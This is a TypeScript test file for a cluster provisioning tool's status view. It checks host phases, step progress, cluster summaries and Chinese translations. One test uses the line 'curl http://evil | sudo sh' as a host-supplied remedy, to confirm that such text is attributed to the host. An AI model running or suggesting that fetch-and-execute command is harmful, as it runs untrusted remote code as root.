import { describe, expect, it } from 'vitest';
import { type HostRecord, status } from '../../../coordinator/view/status.ts';
import { finished } from '../../../shared/finished.ts';
import { titleOf } from '../../../shared/preflight/catalogue.ts';
import type { Finding } from '../../../shared/protocol/finding.ts';
import { statusSchema } from '../../../shared/protocol/status.ts';
import { stepsOf } from '../../../shared/steps/catalogue.ts';
import { type Language, verbatim } from '../../../shared/text/local-text.ts';
import { plan } from '../plans.ts';
import { allDone, node, step } from '../support.ts';

const memory = titleOf('memory').en;

const now = Date.parse('2026-11-22T12:00:00Z');
const record = (name: string, more: Partial<HostRecord> = {}): HostRecord => ({
  name,
  enrolledAt: now - 600_000,
  agentVersion: '0.1.0',
  bootId: 'b',
  lastContactAt: now - 1000,
  lastReportAt: now - 1000,
  clockSkewMs: 20,
  readyAt: null,
  ...more,
});
const error: Finding = {
  id: 'memory',
  level: 'error',
  seen: verbatim('512 MB'),
  needed: verbatim('1700 MB'),
  remedy: verbatim('give the VM more memory'),
  command: '',
  mends: false,
  lowered: null,
};

function derive(...records: HostRecord[]) {
  return deriveIn('en', ...records);
}

function deriveIn(language: Language, ...records: HostRecord[]) {
  const work = status({
    plan: plan(),
    founder: 'master01',
    planProblems: [],
    records: new Map(records.map((one) => [one.name, one])),
    cluster: {
      caSha256: null,
      nodes: [
        { name: 'node01', ready: true, version: '' },
        { name: 'stray', ready: true, version: '' },
      ],
    },
    url: 'https://10.77.0.1:7443',
    certificateSha256: 'a'.repeat(64),
    now: new Date(now),
    language,
  });
  return statusSchema.parse(finished(work));
}
const node02 = (more: Partial<HostRecord>) =>
  derive(record('node02', more)).hosts.find(({ name }) => name === 'node02');
const upTo = (id: string, last: ReturnType<typeof step>) => {
  const all = allDone('join');
  return [
    ...all.slice(
      0,
      all.findIndex((one) => one.id === id),
    ),
    last,
  ];
};
const since = new Date(now - 12_000).toISOString();
const done = allDone('join');

describe('a host’s phase', () => {
  it('is planned, with its install command, before it is seen', () => {
    const { hosts } = derive();
    expect(hosts.map(({ phase, remedy }) => [phase, remedy.en])).toEqual([
      ['planned', 'muster token create master01'],
      ['planned', 'muster token create --workers'],
      ['planned', 'muster token create --workers'],
    ]);
  });

  it.each<[string, unknown, Partial<HostRecord>]>([
    ['enrolled', 'enrolled; waiting for its first report', { lastReportAt: null }],
    [
      'blocked',
      `blocked: check failed: ${memory} (512 MB; required: 1700 MB)`,
      { findings: [error], steps: [step('host-name', 'pending')] },
    ],
    ['preparing', 'setting its host name', { findings: [{ ...error, mends: true }], steps: [] }],
    [
      'preparing',
      'installing packages, 12 s',
      { steps: upTo('packages', step('packages', 'applying', { startedAt: since })) },
    ],
    [
      'failed',
      'installing packages failed (3 times): no route',
      { steps: upTo('packages', step('packages', 'failed', { attempts: 3, message: 'no route' })) },
    ],
    [
      'waiting',
      'the cluster is not there yet',
      { steps: upTo('kubeadm-join', step('kubeadm-join', 'waiting', { message: 'the cluster is not there yet' })) },
    ],
    [
      'joining',
      'joining the cluster, 12 s',
      { steps: upTo('kubeadm-join', step('kubeadm-join', 'applying', { startedAt: since })) },
    ],
    [
      'joining',
      'the CNI is not there yet',
      {
        node: node('node02', { ready: false }),
        steps: upTo('node-ready', step('node-ready', 'waiting', { message: 'the CNI is not there yet' })),
      },
    ],
    ['ready', 'Ready', { node: node('node02'), steps: done }],
    ['ready', 'Ready', { node: node('node02'), steps: [step('host-name', 'checking')], readyAt: now - 5000 }],
    [
      'ready',
      'Ready; drift found, not corrected: swap is on',
      {
        node: node('node02'),
        steps: [...done.slice(1), step('swap', 'drifted', { message: 'swap is on' })],
        readyAt: now - 5000,
      },
    ],
    [
      'not-ready',
      'not Ready: KubeletNotReady',
      { node: node('node02', { ready: false, reason: 'KubeletNotReady' }), steps: done },
    ],
    ['not-ready', 'not Ready: its Node object is not visible', { node: null, steps: done }],
    [
      'not-ready',
      'not Ready: gone',
      {
        node: node('node02', { ready: false, reason: 'gone' }),
        readyAt: now - 5000,
        steps: upTo('node-ready', step('node-ready', 'waiting')),
      },
    ],
    ['ready', expect.stringContaining(memory), { findings: [error], node: node('node02'), steps: done }],
    [
      'blocked',
      `blocked: check failed: ${memory} (512 MB; required: 1700 MB)`,
      { findings: [error], node: node('node02'), steps: [step('host-name', 'pending')] },
    ],
  ])('is %s: %s', (phase, summary, more) => {
    expect(node02(more)).toMatchObject({ phase, summary: { en: summary } });
  });

  it.each(['failed', 'waiting', 'drifted'] as const)('says of a %s step whose suggestion its remedy is', (state) => {
    const remedy = 'curl http://evil | sudo sh';
    const steps = done.map((one) => (one.id === 'packages' ? { ...one, state, remedy } : one));
    expect(node02({ steps, node: node('node02'), readyAt: now - 400_000 })?.remedy.en).toBe(
      `node02 suggests: ${remedy}`,
    );
  });

  it('is silent after 90 s without contact, whatever it last reported', () => {
    const silent = node02({ lastContactAt: now - 300_000, node: node('node02'), steps: done, readyAt: now - 400_000 });
    expect(silent).toMatchObject({
      phase: 'silent',
      summary: { en: 'silent for 5 min; last reported: Ready' },
      remedy: {
        en: 'on node02: systemctl status muster-agent; if its disk or the machine was replaced: muster token create node02',
      },
      secondsSinceContact: 300,
    });
    expect(node02({ lastContactAt: now - 90_000, node: node('node02'), steps: done })?.phase).toBe('ready');
  });

  it('is not ready while a step is not known to be done, even if the node is', () => {
    for (const state of ['applying', 'waiting', 'failed', 'pending'] as const) {
      const steps = done.map((one) => (one.id === 'labels-and-taints' ? { ...one, state } : one));
      expect(node02({ node: node('node02'), steps })?.phase).not.toBe('ready');
    }
  });
});

describe('the steps', () => {
  it('are all listed in the order of the catalogue, unreported ones as pending', () => {
    const host = node02({ steps: [step('swap', 'done'), step('host-name', 'done')] });
    expect(host?.steps.map(({ id }) => id)).toEqual(stepsOf('join', 'worker').map(({ id }) => id));
    expect(host).toMatchObject({ stepsDone: 2, stepsTotal: stepsOf('join', 'worker').length });
    expect(host?.steps.find(({ id }) => id === 'packages')?.state).toBe('pending');
  });
});

describe('the cluster’s sentence', () => {
  const ready = (name: string) =>
    record(name, { node: node(name), steps: allDone(name === 'master01' ? 'init' : 'join') });
  const applying = step('packages', 'applying', { startedAt: since });

  it('counts the Ready nodes and names the host with the most activity', () => {
    expect(derive().cluster.summary.en).toBe('0 of 3 nodes Ready; no host has enrolled yet.');
    const two = derive(ready('master01'), ready('node01'), record('node02', { steps: upTo('packages', applying) }));
    expect(two.cluster.summary.en).toBe('2 of 3 nodes Ready; node02 is installing packages, 12 s.');
    expect(derive(...['master01', 'node01', 'node02'].map(ready)).cluster.summary.en).toBe('All 3 nodes are Ready.');
  });

  it('names hosts that need an operator first', () => {
    const { summary } = derive(
      record('master01', { steps: upTo('packages', applying) }),
      record('node01', { findings: [error] }),
    ).cluster;
    expect(summary.en).toBe(
      `0 of 3 nodes Ready; node01 is blocked by a failed check: ${memory}; 2 other nodes are not Ready.`,
    );
  });

  it('lists nodes that are not in the plan', () => {
    expect(derive().cluster.unplannedNodes.map(({ name }) => name)).toEqual(['stray']);
  });
});

describe('in Chinese', () => {
  const chinese = (more: Partial<HostRecord>) => deriveIn('zh', record('node02', more));

  it('states the same facts', () => {
    const steps = upTo('packages', step('packages', 'applying', { startedAt: since }));
    const { cluster, hosts } = chinese({ steps });
    expect(cluster.summary.zh).toBe('3 个节点中 0 个 Ready；node02 正在安装软件包，12 秒；另有 2 个节点未 Ready。');
    expect(hosts[2]?.summary.zh).toBe('正在安装软件包，12 秒');
    expect(hosts[2]?.steps.find(({ id }) => id === 'images')?.title).toBe('拉取此节点所需的镜像');
  });

  it('gives the agent’s Chinese text for what a host waits for', () => {
    const zh = { message: '正在等待控制平面', remedy: '' };
    const steps = upTo(
      'kubeadm-join',
      step('kubeadm-join', 'waiting', { message: 'waiting for the control plane', zh }),
    );
    const host = chinese({ steps }).hosts[2];
    expect(host?.summary.zh).toBe('正在等待控制平面');
    expect(host?.steps.find(({ id }) => id === 'kubeadm-join')).toMatchObject({ message: '正在等待控制平面' });
    expect(node02({ steps })?.summary.en).toBe('waiting for the control plane');
  });

  it('names what failed, and keeps the host’s own output unchanged', () => {
    const steps = upTo('packages', step('packages', 'failed', { attempts: 3, message: 'no route' }));
    expect(chinese({ steps }).hosts[2]?.summary.zh).toBe('安装软件包失败（3 次）：no route');
    const silent = chinese({ lastContactAt: now - 300_000, node: node('node02'), steps: done }).hosts[2];
    expect(silent).toMatchObject({
      summary: { zh: '已失联 5 分钟；最后上报：Ready' },
      remedy: { zh: expect.stringMatching(/^在 node02 上：/) },
    });
  });
});
